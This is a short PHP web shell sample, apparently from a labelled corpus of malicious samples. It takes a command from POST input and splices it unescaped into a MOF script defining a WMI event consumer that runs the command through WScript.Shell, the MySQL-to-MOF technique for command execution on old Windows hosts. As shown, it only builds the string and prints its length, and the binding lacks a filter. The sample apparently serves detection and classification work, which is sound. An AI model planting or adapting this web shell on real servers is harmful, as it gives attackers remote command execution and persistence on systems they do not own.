<?php
// Family: webshell/exec-request
// Style: MySQL-to-MOF command runner for old Windows hosts
// Trait: a WMI event consumer whose JScript runs a posted command through WScript.Shell, written as a .mof by the database
$cmd = $_POST['cmd'];
$mof = "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")
instance of ActiveScriptEventConsumer as \$Cons
{
  Name = \"demo\";
  ScriptingEngine = \"JScript\";
  ScriptText = \"var WSH = new ActiveXObject(\\\"WScript.Shell\\\")\\nWSH.run(\\\"$cmd\\\")\";
};
instance of __FilterToConsumerBinding
{
  Consumer = \$Cons;
};";
echo strlen($mof);
